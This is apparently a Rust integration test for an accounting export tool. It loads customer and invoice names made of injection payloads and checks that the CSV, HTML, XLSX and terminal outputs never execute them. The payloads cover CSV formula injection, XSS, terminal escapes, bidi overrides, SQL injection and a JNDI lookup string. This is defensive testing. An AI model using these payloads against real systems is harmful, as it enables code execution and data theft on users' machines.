//! Words of others that want something: formulas, scripts, marks that turn a line around, NUL, commands
//! for a terminal, texts of megabytes. They are facts and are kept byte for byte; they are posted, or
//! refused by name; and no file or page that is made of them does what they say.

use std::io::Read;
use std::path::Path;

use serde_json::{Value, json};

use crate::support::cli::{Ran, Sandbox, Tieout};

/// 2026-07-01 16:00 UTC.
const DAY: i64 = 1_782_921_600;

/// Longer than any field of NetSuite's and any cell; `TIEOUT_HOSTILE_CHARS` makes it longer.
fn long_chars() -> usize {
    std::env::var("TIEOUT_HOSTILE_CHARS").map_or(50_000, |count| count.parse().unwrap())
}

/// What a name may be. The last is longer than any field takes.
fn names() -> Vec<String> {
    vec![
        "=HYPERLINK(\"http://x.example/?\"&A1;\"open\")".into(),
        "+1+cmd|' /C calc'!A0".into(),
        "-2+3".into(),
        "@SUM(1+1)*cmd".into(),
        "\t=1+1".into(),
        "<script>alert(1)</script><img src=x onerror=alert(1)>".into(),
        "\"><svg/onload=alert(1)>'".into(),
        "abc\u{202e}00.001 DSU\u{2066}xyz".into(),
        "nul\u{0}inside".into(),
        "\u{1b}[2J\u{1b}]0;owned\u{7}clear".into(),
        "' OR 1=1; DROP TABLE customer; --".into(),
        "{{id:customer/1}} ${jndi:ldap://x} %s%n".into(),
        format!("long{}", "x".repeat(long_chars())),
    ]
}

/// An open invoice of a customer of each name; the name stands wherever a text may.
fn facts(names: &[String]) -> Vec<Value> {
    let mut facts = Vec::new();
    for (number, name) in names.iter().enumerate() {
        let customer = format!("cus_h{number}");
        facts.push(json!({"id": customer, "object": "customer", "created": DAY, "livemode": false,
            "name": name, "email": "books@example.com", "currency": "usd", "balance": 0,
            "description": name, "metadata": {"note": name}}));
        facts.push(json!({"id": format!("in_h{number}"), "object": "invoice", "created": DAY,
            "livemode": false, "currency": "usd", "customer": customer, "status": "open",
            "total": 5_000, "amount_due": 5_000, "amount_paid": 0, "amount_remaining": 5_000,
            "starting_balance": 0, "ending_balance": 0, "description": name, "number": name,
            "metadata": {"note": name}, "status_transitions": {"finalized_at": DAY},
            "lines": {"object": "list", "has_more": false, "data": [{"id": format!("il_h{number}"),
                "object": "line_item", "amount": 5_000, "currency": "usd", "quantity": 1,
                "description": name, "metadata": {"note": name},
                "pricing": {"type": "price_details", "price_details": {"price": "price_h"}}}]}}));
    }
    facts
}

/// A cell of others' words begins with nothing that a spreadsheet would run; a figure is a number.
fn assert_plain_csv(name: &str, bytes: &[u8]) {
    let mut reader = csv::ReaderBuilder::new().flexible(true).has_headers(false).from_reader(bytes);
    for record in reader.records() {
        for cell in &record.unwrap_or_else(|error| panic!("{name}: {error}")) {
            let is_number =
                cell.trim_start_matches('-').chars().all(|c| c.is_ascii_digit() || c == '.');
            let would_run = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            let shown: String = cell.chars().take(60).collect();
            assert!(is_number || !would_run, "{name} has the cell {shown:?}");
        }
    }
}

fn assert_plain_page(name: &str, text: &str) {
    for tag in ["<script>alert", "<img src=x", "<svg/onload", "onerror=alert(1)>"] {
        assert!(!text.contains(tag), "{name} holds {tag}");
    }
}

/// Strings, numbers and dates: no sheet of ours has a formula, and every sheet is XML that can be read.
fn assert_plain_workbook(name: &str, path: &Path) {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    for place in 0..zip.len() {
        let mut file = zip.by_index(place).unwrap();
        let part = file.name().unwrap().into_owned();
        let mut text = String::new();
        file.read_to_string(&mut text).unwrap_or_else(|_| panic!("{name}: {part} is no text"));
        assert!(!text.contains("<f>") && !text.contains("<f "), "{name}: {part} has a formula");
        let is_allowed = |c: char| !c.is_control() || matches!(c, '\n' | '\r' | '\t');
        assert!(text.chars().all(is_allowed), "{name}: {part} is no XML");
    }
}

fn look_at(folder: &Path) -> usize {
    let mut count = 0;
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let name = path.display().to_string();
        if path.is_dir() {
            count += look_at(&path);
            continue;
        }
        count += 1;
        match path.extension().and_then(|extension| extension.to_str()) {
            Some("csv") => assert_plain_csv(&name, &std::fs::read(&path).unwrap()),
            Some("html") => assert_plain_page(&name, &std::fs::read_to_string(&path).unwrap()),
            Some("xlsx") => assert_plain_workbook(&name, &path),
            _ => count -= 1,
        }
    }
    count
}

/// What a person reads on a terminal neither moves the cursor nor turns a figure around.
fn assert_plain_text(ran: &Ran) {
    for text in [&ran.stdout, &ran.stderr] {
        let acts = |c: char| {
            c.is_control() && !matches!(c, '\n' | '\t')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        let found = text.char_indices().find(|(_, c)| acts(*c));
        if let Some((at, c)) = found {
            let around: String =
                text[..at].chars().rev().take(60).collect::<Vec<_>>().into_iter().rev().collect();
            panic!("{c:?} after {around}");
        }
    }
}

/// A customer can choose a name; it must not choose what happens on the accountant's machine.
#[test]
fn hostile_words_are_kept_posted_or_refused_and_never_run() {
    let folder = tempfile::tempdir().unwrap();
    let _sandbox = Sandbox::start_with(folder.path(), &["--charges", "3", "--months", "1"]);
    let tieout = Tieout::new(folder.path());
    let facts = facts(&names());
    let lines: Vec<String> = facts.iter().map(Value::to_string).collect();
    std::fs::write(folder.path().join("facts.jsonl"), lines.join("\n")).unwrap();
    let run = |arguments: &[&str], codes: &[i32]| {
        let ran = tieout.run(arguments);
        let end: String = ran.stderr.chars().take(2000).collect();
        assert!(codes.contains(&ran.code), "{arguments:?} ended with {}: {end}", ran.code);
        ran
    };
    run(&["pull", "--from", "facts.jsonl"], &[0]);
    assert_plain_text(&run(&["plan", "--html", "plan.html", "--xlsx", "plan.xlsx"], &[0, 3]));
    std::fs::write(
        folder.path().join("plan.csv"),
        run(&["plan", "--output", "csv"], &[0, 3]).stdout,
    )
    .unwrap();
    // What a field cannot take is refused for that record alone, and the rest is posted.
    let pushed = run(&["push"], &[0, 3]);
    assert!(
        pushed.stderr.contains(" created") && pushed.stderr.contains("0 in doubt"),
        "{}",
        &pushed.stderr[..2000.min(pushed.stderr.len())]
    );
    assert_plain_text(&pushed);
    assert_plain_text(&run(&["verify"], &[0, 3, 6]));
    run(&["report", "tieout", "--html", "tieout.html"], &[0, 3, 6]);
    run(&["report", "close", "--period", "2026-07", "--out", "close"], &[0, 3, 6]);
    let list = run(&["exceptions", "--output", "csv"], &[0, 3]);
    std::fs::write(folder.path().join("exceptions.csv"), list.stdout).unwrap();
    run(&["explain", "in_h0"], &[0, 3]);
    run(&["ledger", "export", "out"], &[0]);
    assert!(look_at(folder.path()) > 20);
    let kept = std::fs::read_to_string(folder.path().join("out/customer.jsonl")).unwrap();
    for fact in facts.iter().filter(|fact| fact["object"] == "customer") {
        assert!(kept.contains(&fact.to_string()), "{} was not kept as it came", fact["id"]);
    }
}
